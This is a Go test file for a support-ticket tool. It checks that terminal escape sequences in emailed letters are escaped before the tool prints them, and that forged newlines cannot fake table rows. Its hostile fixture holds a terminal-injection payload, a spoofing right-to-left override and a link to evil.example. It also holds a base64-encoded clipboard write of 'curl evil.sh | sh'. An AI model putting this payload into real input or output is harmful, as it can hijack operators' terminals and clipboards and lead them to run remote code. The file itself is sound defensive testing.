package main

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/ticketd/ticketd/store"
)

// hostile is what a letter may carry to act on an operator's terminal:
// clear the screen, set the window title (OSC 0), write the clipboard
// (OSC 52), hide a link (OSC 8), ring, back over and return over text, a
// CSI as a C1 character, DEL, and a right-to-left override.
const hostile = "\x1b[2J\x1b]0;pwned\x07\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07" +
	"\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\" +
	"\a\b\b\rpaid\u009b31m\x7f\u202egnp.exe"

// checkTerminalSafe fails t when out, what a command printed, holds a
// control character other than line feed and tab, DEL, a C1 control, a
// bidirectional control, U+2028, U+2029 or a byte that is not UTF-8.
func checkTerminalSafe(t *testing.T, what, out string) {
	t.Helper()
	if !utf8.ValidString(out) {
		t.Errorf("%s printed bytes that are not UTF-8:\n%q", what, out)
	}
	for i, r := range out {
		switch {
		case r == '\n' || r == '\t':
		case r < 0x20, r == 0x7f, r >= 0x80 && r <= 0x9f, r == '\u2028', r == '\u2029', unicode.Is(unicode.Bidi_Control, r):
			t.Errorf("%s printed %U at byte %d:\n%q", what, r, i, out)
			return
		}
	}
}

// terminalLetter returns a letter whose sender's name, subject and body
// carry hostile, the body also a raw C1 byte that is not UTF-8.
func terminalLetter() []byte {
	word := func(s string) string { return "=?utf-8?b?" + base64.StdEncoding.EncodeToString([]byte(s)) + "?=" }
	return []byte("From: " + word("Иван "+hostile) + " <ivan@example.ru>\r\n" +
		"To: support@demo.ticketd.local\r\n" +
		"Subject: " + word("Не могу войти "+hostile) + "\r\n" +
		"Date: Mon, 01 Apr 2024 10:00:00 +0300\r\n" +
		"Message-ID: <hostile-1@example.ru>\r\n" +
		"MIME-Version: 1.0\r\n" +
		"Content-Type: text/plain; charset=utf-8\r\n" +
		"Content-Transfer-Encoding: 8bit\r\n" +
		"\r\n" +
		"Здравствуйте! " + hostile + "\r\n" +
		"Сырой байт \x9b[31m. Лицевой счёт 1234567890.\r\n")
}

// TestLetterTextCannotReachTheTerminal files a hostile letter through the
// demo's in-process mail servers and daemon, and stores a ticket whose
// fields hold hostile as they are (mailparse already turns C0 controls in
// headers into spaces; the store takes what it is given), then runs every
// command that prints letter text: none may print what hostile holds, and
// the JSON must stay valid with the values unchanged.
func TestLetterTextCannotReachTheTerminal(t *testing.T) {
	dir := t.TempDir()
	letters := filepath.Join(dir, "letters")
	if err := os.Mkdir(letters, 0o755); err != nil {
		t.Fatal(err)
	}
	eml := filepath.Join(letters, "hostile.eml")
	if err := os.WriteFile(eml, terminalLetter(), 0o644); err != nil {
		t.Fatal(err)
	}

	out, errb, code := run(t, "parse", eml)
	if code != exitOK {
		t.Fatalf("parse: exit %d: %s", code, errb)
	}
	checkTerminalSafe(t, "parse", out)
	var p parsed
	if err := json.Unmarshal([]byte(out), &p); err != nil {
		t.Fatalf("parse printed invalid JSON: %v\n%s", err, out)
	}
	if !strings.Contains(p.Subject, "\u202egnp.exe") || !strings.Contains(p.Text, "\x1b]52;") {
		t.Errorf("parse JSON = subject %q, text %q; want the letter's characters kept as JSON escapes", p.Subject, p.Text)
	}

	db := filepath.Join(dir, "t.db")
	out, errb, code = run(t, "demo", "-once", "-letters", letters, "-db", db)
	if code != exitOK {
		t.Fatalf("demo: exit %d: %s", code, errb)
	}
	checkTerminalSafe(t, "demo", out)
	checkTerminalSafe(t, "demo's stderr", errb)

	d, err := store.Open(context.Background(), db)
	if err != nil {
		t.Fatal(err)
	}
	stored := store.Ticket{Subject: "Вопрос " + hostile, CitizenName: "Иван " + hostile,
		CitizenAddress: "ivan\x1b[2J@example.ru", Description: "Здравствуйте\n" + hostile + "\nСырой байт \x9b[31m",
		DueAt: time.Now()}
	_, err = d.Ingest(context.Background(), store.Inbound{MessageID: "raw@x", Raw: terminalLetter(),
		FromName: hostile, FromAddress: stored.CitizenAddress, Note: "note " + hostile, Ticket: stored}, nil)
	d.Close()
	if err != nil {
		t.Fatal(err)
	}
	config := writeConfig(t, minimal+"[store]\npath = \""+db+"\"\n")

	for _, args := range [][]string{
		{"tickets"}, {"tickets", "-json"},
		{"show", "TKT-000001", "-operator", "anna"}, {"show", "TKT-000001", "-json", "-operator", "anna"},
		{"show", "TKT-000002", "-operator", "anna"}, {"show", "TKT-000002", "-json", "-operator", "anna"},
	} {
		what := strings.Join(args, " ")
		out, errb, code := run(t, append(args, "-config", config)...)
		if code != exitOK {
			t.Fatalf("%s: exit %d: %s", what, code, errb)
		}
		checkTerminalSafe(t, what, out)
		if !strings.Contains(out, `\u001b`) {
			t.Errorf("%s does not show the letter's ESC as \\u001b:\n%s", what, out)
		}
		if args[len(args)-1] == "-json" && !json.Valid([]byte(out)) {
			t.Errorf("%s printed invalid JSON:\n%s", what, out)
		}
	}
	out, _, _ = run(t, "show", "TKT-000002", "-json", "-operator", "anna", "-config", config)
	var s struct {
		Subject     string `json:"subject"`
		CitizenName string `json:"citizen_name"`
	}
	if err := json.Unmarshal([]byte(out), &s); err != nil || s.Subject != stored.Subject || s.CitizenName != stored.CitizenName {
		t.Errorf("show -json = subject %q, name %q (%v); want %q, %q", s.Subject, s.CitizenName, err, stored.Subject, stored.CitizenName)
	}
	out, _, _ = run(t, "show", "TKT-000002", "-operator", "anna", "-config", config)
	for _, want := range []string{`Subject:  Вопрос \u001b[2J\u001b]0;pwned\u0007`, `\u0008\u0008\u000dpaid\u009b31m\u007f\u202egnp.exe`, `Сырой байт \x9b[31m`} {
		if !strings.Contains(out, want) {
			t.Errorf("show does not print %q:\n%s", want, out)
		}
	}
}

func TestTicketsTableKeepsOneLineATicket(t *testing.T) {
	config, db := offlineConfig(t)
	d, err := store.Open(context.Background(), db)
	if err != nil {
		t.Fatal(err)
	}
	_, err = d.Ingest(context.Background(), store.Inbound{MessageID: "q2@x", Raw: []byte("x"), FromAddress: "petr@example.ru",
		Ticket: store.Ticket{Subject: "Вопрос\nTKT-000009  closed  normal\tforged", CitizenAddress: "petr@example.ru", DueAt: time.Now()}}, nil)
	d.Close()
	if err != nil {
		t.Fatal(err)
	}
	out, errb, code := run(t, "tickets", "-config", config)
	if code != exitOK {
		t.Fatalf("tickets: exit %d: %s", code, errb)
	}
	if lines := strings.Split(strings.TrimSuffix(out, "\n"), "\n"); len(lines) != 3 || strings.Contains(out, "\nTKT-000009") {
		t.Errorf("tickets printed %d lines, want a header and two tickets:\n%s", len(lines), out)
	}
}
